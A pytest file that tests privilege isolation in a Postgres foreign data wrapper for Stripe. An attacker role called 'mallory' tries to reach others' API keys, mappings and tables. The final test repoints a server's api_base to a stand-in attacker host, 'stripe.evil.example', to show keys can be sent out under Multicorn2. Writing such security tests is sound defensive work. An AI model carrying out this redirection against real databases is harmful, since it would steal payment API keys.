"""What roles can reach that own or may use a part: the database, a server, a mapping, a table, a dump."""

from __future__ import annotations

import subprocess
from collections.abc import Callable, Iterator

import psycopg
import pytest

from stripe_fdw.devstack.private_postgres import Cluster, PrivateInstallation
from stripe_simulator.process import SimulatorProcess
from support.attacks import Acting
from support.database import KEY, Server, Servers, column, count, failing, not_under_multicorn2, one, said

DENIED = "42501"
OTHER_KEY = "sk_test_51TheKeyOfTheRoleMallory00"


@pytest.fixture
def server(db: psycopg.Connection, servers: Servers, calm: SimulatorProcess) -> Server:
    """A server with a mapping and tables of an administrator."""
    return servers("customer", "product", mapping={"api_key": KEY}, api_base=calm.url)


@pytest.fixture
def give_key(db: psycopg.Connection) -> Callable[[str, str], None]:
    """Make a user mapping, in a statement that is not logged."""

    def give(role: str, server: str) -> None:
        db.execute("set log_statement = 'none'")
        db.execute(f"create user mapping for {role} server {server} options (api_key '{OTHER_KEY}')".encode())
        db.execute("reset log_statement")

    return give


def refused(db: psycopg.Connection, *statements: str) -> None:
    """Check that Postgres refuses each statement for lack of permission."""
    for statement in statements:
        error = failing(db, statement)
        assert error.sqlstate == DENIED, (statement, said(error))
        assert KEY not in said(error)


def test_the_owner_of_the_database_reaches_nothing_that_others_installed(
    db: psycopg.Connection, mallory: Acting, calm: SimulatorProcess
) -> None:
    name = str(one(db, "select current_database()"))
    db.execute(f"alter database {name} owner to mallory".encode())
    calm.control("DELETE", "/requests")
    try:
        with mallory():
            refused(
                db,
                "select * from stripe_live.customer",
                "select stripe_live.call('GET', '/v1/balance')",
                "create function stripe_live.call(text, text) returns int language sql as 'select 1'",
                "create table stripe_sync.mine (id text)",
                "drop schema stripe_live cascade",
                "alter schema stripe_sync rename to mine",
                "alter server stripe options (add use_search 'on')",
                "alter server stripe owner to mallory",
                "create user mapping for current_user server stripe options (api_key 'x')",
                "create foreign table public.mine (id text) server stripe",
                "select * from pg_user_mapping",
            )
            seen = column(db, "select umoptions from pg_user_mappings where srvname = 'stripe'")
            assert seen == [None]
    finally:
        db.execute(f"alter database {name} owner to postgres".encode())
    assert calm.requests() == []


def test_usage_on_a_server_gives_a_mapping_of_ones_own_and_no_other(
    db: psycopg.Connection, mallory: Acting, server: Server, host: str, calm: SimulatorProcess
) -> None:
    db.execute(f"grant usage on foreign server {server.name} to mallory".encode())
    calm.control("DELETE", "/requests")
    with mallory():
        refused(
            db,
            f"create user mapping for public server {server.name} options (api_key 'x')",
            f"create user mapping for postgres server {server.name} options (api_key 'x')",
            f"alter user mapping for postgres server {server.name} options (set api_key 'x')",
            f"drop user mapping for postgres server {server.name}",
            f"alter server {server.name} options (set api_base 'http://127.0.0.1:1')",
            f"select * from {server.table('customer')}",
        )
        db.execute(
            f"create foreign table pg_temp.mine (id text) server {server.name} options (object 'customer')"
        )
        assert "no API key" in said(failing(db, "select * from pg_temp.mine"))
        db.execute("drop foreign table pg_temp.mine")
        assert column(db, f"select umoptions from pg_user_mappings where srvname = '{server.name}'") == [None]
    assert calm.requests() == []


def test_the_owner_of_a_server_sees_no_mapping_of_others(
    db: psycopg.Connection, mallory: Acting, server: Server
) -> None:
    db.execute(f"alter server {server.name} owner to mallory".encode())
    try:
        with mallory():
            seen = column(db, f"select umoptions from pg_user_mappings where srvname = '{server.name}'")
            assert seen == [None]
            db.execute(f"alter server {server.name} options (add timeout '5')".encode())
    finally:
        db.execute(f"alter server {server.name} owner to postgres".encode())


def test_a_mapping_alone_reads_nothing(
    db: psycopg.Connection, mallory: Acting, server: Server, give_key: Callable[[str, str], None]
) -> None:
    give_key("mallory", server.name)
    with mallory():
        refused(
            db,
            f"select * from {server.table('customer')}",
            f"create foreign table pg_temp.mine (id text) server {server.name}",
            f"import foreign schema stripe from server {server.name} into pg_temp",
        )
        assert (
            column(db, f"select umoptions from pg_user_mappings where srvname = '{server.name}'")
            == [None] * 2
        )


def test_select_on_a_table_allows_that_table_alone(
    db: psycopg.Connection, mallory: Acting, server: Server, give_key: Callable[[str, str], None]
) -> None:
    give_key("mallory", server.name)
    db.execute(f"grant usage on schema {server.name} to mallory".encode())
    db.execute(f"grant select on {server.table('customer')} to mallory".encode())
    with mallory():
        assert count(db, f"select count(*) from {server.table('customer')}") > 0
        refused(
            db,
            f"select * from {server.table('product')}",
            f"insert into {server.table('customer')} (email) values ('a@b.c')",
            f"update {server.table('customer')} set name = 'N'",
            f"delete from {server.table('customer')}",
            f"select * from {server.table('customer')} for update",
            f"alter foreign table {server.table('customer')} options (set object 'product')",
            f"create trigger t before insert on {server.table('customer')} for each row"
            " execute function suppress_redundant_updates_trigger()",
        )


def test_rights_on_a_view_show_its_columns_alone(
    db: psycopg.Connection, mallory: Acting, server: Server, host: str
) -> None:
    not_under_multicorn2(host, "a view reads as its caller")
    view = server.table("names")
    db.execute(
        f"create view {view} with (security_barrier) as select name from {server.table('customer')}".encode()
    )
    db.execute(f"grant usage on schema {server.name} to mallory; grant select on {view} to mallory".encode())
    with mallory():
        assert count(db, f"select count(*) from {view}") > 0
        refused(db, f"select * from {server.table('customer')}", f"update {view} set name = 'N'")
        assert failing(db, f"select email from {view}").sqlstate == "42703"
        assert failing(db, f"select _raw from {view}").sqlstate == "42703"


@pytest.fixture
def restored(host_cluster: Cluster, tree: PrivateInstallation, database: str) -> Iterator[str]:
    """A database that a superuser restored from a dump of the installed one."""
    dump = subprocess.run(
        [tree.system.bindir / "pg_dump", "--dbname", database], capture_output=True, check=True, text=True
    ).stdout
    assert KEY in dump  # as documented: a superuser's dump has keys that are in the catalog
    with psycopg.connect(host_cluster.dsn(), autocommit=True) as connection:
        connection.execute("create database restored")
    with psycopg.connect(host_cluster.dsn("restored"), autocommit=True) as connection:
        connection.execute("alter database restored set log_statement = 'none'")
    subprocess.run(
        [tree.system.bindir / "psql", "--quiet", "--no-psqlrc", "--set", "ON_ERROR_STOP=1",
         "--dbname", host_cluster.dsn("restored")],
        input=dump, capture_output=True, check=True, text=True,
    )  # fmt: skip
    yield host_cluster.dsn("restored")
    with psycopg.connect(host_cluster.dsn(), autocommit=True) as connection:
        connection.execute("drop database restored with (force)")


def test_a_restored_dump_keeps_privileges_and_safe_functions(restored: str, host_cluster: Cluster) -> None:
    with psycopg.connect(restored, autocommit=True) as connection:
        functions = connection.execute(
            "select proname, proconfig, has_function_privilege('pg_monitor', oid, 'execute') from pg_proc"
            " where pronamespace in ('stripe_sync'::regnamespace, 'stripe_live'::regnamespace)"
            " and proname not like 'multicorn%'"
        ).fetchall()
        assert {name for name, *_ in functions} >= {"call", "invalidate"}
        assert {(str(path), may) for _, path, may in functions} == {
            ("['search_path=pg_catalog, pg_temp']", False)
        }
        assert count(connection, "select count(*) from stripe_live.customer") > 0


# What stays possible under Multicorn2, as SECURITY.md says.


def test_under_multicorn2_a_role_with_usage_names_any_class_of_python(
    db: psycopg.Connection, mallory: Acting, server: Server, host: str
) -> None:
    if host == "bundled":
        pytest.skip("the bundled host has no option that names a class")
    db.execute(f"grant usage on foreign server {server.name} to mallory".encode())
    with mallory():
        db.execute(f"create foreign table pg_temp.mine (id text) server {server.name}".encode())
        wrapper = "options (wrapper 'fractions.Fraction')"
        db.execute(f"create user mapping for mallory server {server.name} {wrapper}".encode())
        assert "should be Rational instances" in said(failing(db, "select * from pg_temp.mine"))
        db.execute("drop foreign table pg_temp.mine")


def test_under_multicorn2_a_servers_owner_sends_its_keys_anywhere(
    db: psycopg.Connection, mallory: Acting, server: Server, host: str
) -> None:
    if host == "bundled":
        pytest.skip("the bundled host refuses it")
    db.execute(f"alter server {server.name} owner to mallory".encode())
    try:
        with mallory():
            db.execute(
                f"alter server {server.name} options (set api_base 'https://stripe.evil.example')".encode()
            )
    finally:
        db.execute(f"alter server {server.name} owner to postgres".encode())
